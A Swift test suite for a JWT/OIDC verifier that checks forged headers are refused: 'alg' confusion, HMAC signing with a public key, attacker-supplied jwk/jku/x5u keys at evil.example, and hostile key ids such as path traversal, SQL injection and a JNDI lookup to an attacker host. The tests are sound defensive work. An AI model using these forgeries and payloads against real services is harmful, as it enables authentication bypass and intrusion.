import Foundation
import JOSE
import OIDC
import TestSupport
import Testing

/// A token's header is what the sender wrote: it must not choose how the token is judged, nor by which key.
@Suite struct HeaderAttackTests {
  // MARK: - Algorithm

  @Test(arguments: ["rsa-1", "ec-1"])
  func `a token as the provider makes it provisions a runner`(keyID: String) throws {
    let service = try AttackedService()
    try service.expectAccepted(service.token(keyID: keyID))
  }

  @Test(arguments: [
    #""alg":"none","#, #""alg":"None","#, #""alg":"nOnE","#, #""alg":"NONE","#, #""alg":"","#, "",
    #""alg":["RS256"],"#, #""alg":["none"],"#, #""alg":null,"#, #""alg":256,"#, #""alg":true,"#,
    #""alg":{"RS256":1},"#, #""Alg":"RS256","#, #""alg":"rs256","#, #""alg":"RS256 ","#,
    #""alg":"RS256\u0000","#, #""alg":"HS256","#, #""alg":"HS512","#, #""alg":"RS512","#,
    #""alg":"PS256","#, #""alg":"ES384","#, #""alg":"ES512","#, #""alg":"ES256K","#,
    #""alg":"EdDSA","#, #""alg":"RSA1_5","#, #""alg":"dir","#,
  ])
  func `a token whose algorithm is not one of the provider's is refused, signed or not`(
    algorithm: String
  ) throws {
    let service = try AttackedService()
    let header = "{\(algorithm)\"kid\":\"rsa-1\",\"typ\":\"JWT\"}"
    let token = try service.token(header: header)
    try service.expectRefused(token)
    let unsigned = token.split(separator: ".").dropLast().joined(separator: ".")
    try service.expectRefused(unsigned + ".")
    try service.expectRefused(unsigned + ".AA")
    #expect(service.provider.requestCount == 0)
    try service.expectAccepted(
      service.token(header: #"{"alg":"RS256","kid":"rsa-1","typ":"JWT"}"#))
  }

  /// The forms in which an attacker has a public key.
  enum Secret: CaseIterable {
    case pem, pemWithoutLastLineEnd, subjectPublicKeyInfo, numbers, jwk

    func bytes(of pair: AttackKeys.Pair) throws -> [UInt8] {
      let pem = pair.raw.pem(.publicKey)
      switch self {
      case .pem: return pem
      case .pemWithoutLastLineEnd: return pem.dropLast()
      case .subjectPublicKeyInfo:
        let lines = String(decoding: pem, as: UTF8.self).split(separator: "\n")
        let base64 = lines.filter { !$0.hasPrefix("-") }.joined()
        return try Array(#require(Data(base64Encoded: base64)))
      case .numbers:
        return pair.privateKey.type == .rsa
          ? pair.raw.number("n") : [4] + pair.raw.number("qx") + pair.raw.number("qy")
      case .jwk: return try Array(pair.privateKey.jwk().utf8)
      }
    }
  }

  @Test(arguments: Secret.allCases, ["rsa-1", "ec-1"])
  func `a public key is no secret that anybody can sign with`(secret: Secret, keyID: String) throws
  {
    let service = try AttackedService()
    let pair = keyID == "rsa-1" ? AttackKeys.rsa : AttackKeys.ec
    let payload = Base64URL.encode(Array(try service.honestTexts().payload.utf8))
    for algorithm in ["HS256", "RS256", "ES256"] {
      let header = "{\"alg\":\"\(algorithm)\",\"kid\":\"\(keyID)\"}"
      let input = Base64URL.encode(Array(header.utf8)) + "." + payload
      let mac = TestKey.hmac(Array(input.utf8), secret: try secret.bytes(of: pair))
      try service.expectRefused(input + "." + Base64URL.encode(mac))
    }
    try service.expectAccepted(service.token(keyID: keyID))
  }

  @Test(arguments: [
    ("ES256", "rsa-1", "rsa-1"), ("RS256", "ec-1", "ec-1"), ("ES256", "ec-1", "rsa-1"),
    ("RS256", "rsa-1", "ec-1"), ("RS256", "ec-1", "rsa-1"), ("ES256", "rsa-1", "ec-1"),
  ])
  func `a key of one type does not serve an algorithm of another`(
    algorithm: String, keyID: String, signer: String
  ) throws {
    let service = try AttackedService()
    let header = "{\"alg\":\"\(algorithm)\",\"kid\":\"\(keyID)\"}"
    try service.expectRefused(service.token(keyID: signer, header: header))
    try service.expectAccepted(service.token(keyID: signer))
  }

  @Test func `a key that is for one algorithm does not serve another of its type`() throws {
    let service = try AttackedService()
    let key = AttackKeys.rsa.privateKey
    service.provider.answer(keys: [
      try key.jwk(["kid": #""pss""#, "alg": #""PS256""#]), try key.jwk(["kid": #""any""#]),
    ])
    try service.expectRefused(service.token(header: #"{"alg":"RS256","kid":"pss"}"#))
    try service.expectAccepted(service.token(header: #"{"alg":"RS256","kid":"any"}"#))
  }

  @Test(arguments: ["ES256", "ES256K"])
  func `a key on another curve does not serve`(algorithm: String) throws {
    let service = try AttackedService()
    let p384 = try PrivateKey(generating: .p384)
    let foreign = TestKey(curve: "secp256k1")
    let coordinates = ["qx", "qy"].map { Base64URL.encode(foreign.number($0)) }
    let point = "\"kty\":\"EC\",\"x\":\"\(coordinates[0])\",\"y\":\"\(coordinates[1])\""
    service.provider.answer(keys: [
      try p384.jwk(["kid": #""p384""#]), "{\(point),\"crv\":\"secp256k1\",\"kid\":\"k1\"}",
      "{\(point),\"crv\":\"P-256\",\"kid\":\"posing\"}",
      try AttackKeys.ec.privateKey.jwk(["kid": #""good""#]),
    ])
    let payload = Base64URL.encode(Array(try service.honestTexts().payload.utf8))
    func token(_ keyID: String, _ sign: ([UInt8]) throws -> [UInt8]) throws -> String {
      let header = "{\"alg\":\"\(algorithm)\",\"kid\":\"\(keyID)\"}"
      let input = Base64URL.encode(Array(header.utf8)) + "." + payload
      return try input + "." + Base64URL.encode(sign(Array(input.utf8)))
    }
    try service.expectRefused(token("p384") { try p384.signature(over: $0, algorithm: .es384) })
    for keyID in ["k1", "posing"] {
      try service.expectRefused(
        token(keyID) { ECDSAForm.raw(fromDER: foreign.opensslSignature(over: $0)) })
    }
    try service.expectAccepted(
      service.token(keyID: "ec-1", header: #"{"alg":"ES256","kid":"good"}"#))
  }

  @Test(arguments: [
    (SignatureAlgorithm.ps256, KeyType.rsa), (.rs512, .rsa), (.es384, .p384), (.edDSA, .ed25519),
  ])
  func `an algorithm is accepted where the provider may use it, and only there`(
    algorithm: SignatureAlgorithm, type: KeyType
  ) throws {
    let key = type == .rsa ? AttackKeys.rsa.privateKey : try PrivateKey(generating: type)
    let narrow = try AttackedService()
    try narrow.provider.addKey("new", algorithm, key)
    try narrow.expectRefused(narrow.token(keyID: "new"))
    let wide = try AttackedService { $0.algorithms.insert(algorithm) }
    try wide.provider.addKey("new", algorithm, key)
    try wide.expectAccepted(wide.token(keyID: "new"))
  }

  // MARK: - Keys that the token brings

  /// Members that bring the attacker's key or say where it is.
  static let ownKeys: [String] = {
    let jwk = try! AttackKeys.attackerRSA.jwk(["kid": #""rsa-1""#])
    let url = #""https://evil.example/jwks""#
    return [
      "\"jwk\":\(jwk)", "\"jku\":\(url)", "\"x5u\":\(url)", #""x5c":["MIIBIjANBgkq"]"#,
      #""x5t":"AAAA""#, #""x5t#S256":"AAAA""#, "\"jwk\":\(jwk),\"jku\":\(url),\"x5u\":\(url)",
    ]
  }()

  @Test(arguments: ownKeys)
  func `a key that a token brings or points at is not looked at`(members: String) throws {
    let service = try AttackedService()
    for keyID in [#","kid":"rsa-1""#, #","kid":"https://evil.example/jwks""#, ""] {
      let header = "{\"alg\":\"RS256\"\(keyID),\(members)}"
      let payload = try service.honestTexts().payload
      try service.expectRefused(service.attacker.token(payload: payload, header: header))
    }
    #expect(service.attacker.requestCount == 0)
    // Such members do no harm under the provider's own signature.
    try service.expectAccepted(
      service.token(header: "{\"alg\":\"RS256\",\"kid\":\"rsa-1\",\(members)}"))
    #expect(service.attacker.requestCount == 0)
  }

  // MARK: - Key ids

  @Test(arguments: [
    #""../../../../dev/null""#, #""/dev/null""#, #""file:///etc/passwd""#, #""rsa-1/../rsa-1""#,
    #""' OR 1=1--""#, #""'; DROP TABLE runners;--""#, #""rsa-1' UNION SELECT 1--""#,
    #""rsa-1\u0000""#, #""\u0000""#, #""""#, #""RSA-1""#, #""rsa-1 ""#, #""rsa-\uff11""#,
    #""${jndi:ldap://evil.example/a}""#, #""%00""#, #""\n{\"level\":\"info\"}""#, #""\u202e""#,
    "\"\(String(repeating: "A", count: 1900))\"", "1", "1.5", "null", "true", #"["rsa-1"]"#,
    #"{"rsa-1":"rsa-1"}"#,
  ])
  func `a key id that is no key's is refused and does nothing else`(keyID: String) throws {
    let service = try AttackedService()
    try service.expectRefused(service.token(header: "{\"alg\":\"RS256\",\"kid\":\(keyID)}"))
    let own = Set(
      ["/.well-known/openid-configuration", "/jwks"].map { service.provider.issuer + $0 })
    #expect(Set(service.provider.requestedURLs).isSubset(of: own))
    try service.expectAccepted(service.token(header: #"{"alg":"RS256","kid":"rsa-1"}"#))
  }

  @Test func `a key id of ten kilobytes is refused`() throws {
    let service = try AttackedService()
    let long = String(repeating: "A", count: 10_240)
    try service.expectRefused(service.token(header: "{\"alg\":\"RS256\",\"kid\":\"\(long)\"}"))
    #expect(service.provider.requestCount == 0)
    try service.expectAccepted(service.token())
  }

  @Test func `a token without key id is accepted where one key fits, and refused where two do`()
    throws
  {
    let service = try AttackedService()
    try service.expectAccepted(service.token(header: #"{"alg":"RS256"}"#))
    let ambiguous = try AttackedService()
    try ambiguous.provider.addKey("rsa-2", .rs256, AttackKeys.attackerRSA)
    try ambiguous.expectRefused(ambiguous.token(header: #"{"alg":"RS256"}"#))
    try ambiguous.expectAccepted(ambiguous.token())
  }

  // MARK: - Extensions and kinds

  @Test(arguments: [
    #""crit":["exp"],"exp":1"#, #""crit":[]"#, #""crit":["x"],"x":1"#, #""crit":null"#,
    #""crit":"exp""#, #""crit":["b64"],"b64":false"#, #""crit":["alg"]"#, #""b64":false"#,
    #""b64":true"#, #""zip":"DEF""#, #""cty":"JWT""#, #""typ":"logout+jwt""#,
    #""typ":"dpop+jwt""#, #""typ":"secevent+jwt""#, #""typ":"JOSE""#, #""typ":1"#,
    #""typ":["JWT"]"#, #""typ":null"#,
  ])
  func `a header that makes the token something else is refused`(members: String) throws {
    let service = try AttackedService()
    let start = #"{"alg":"RS256","kid":"rsa-1","#
    try service.expectRefused(service.token(header: start + members + "}"))
    #expect(service.provider.requestCount == 0)
    try service.expectAccepted(service.token(header: start + #""x-mark":["exp"],"typ":"at+jwt"}"#))
  }

  @Test func `a payload that was never encoded is refused`() throws {
    // RFC 7797: the signature covers the claims as they are.
    let service = try AttackedService()
    let header = Base64URL.encode(
      Array(#"{"alg":"RS256","kid":"rsa-1","b64":false,"crit":["b64"]}"#.utf8))
    let payload = try service.honestTexts().payload
    let inClear = try service.provider.token(signing: header + "." + payload)
    try service.expectRefused(inClear)
    try service.expectAccepted(service.token())
  }
}
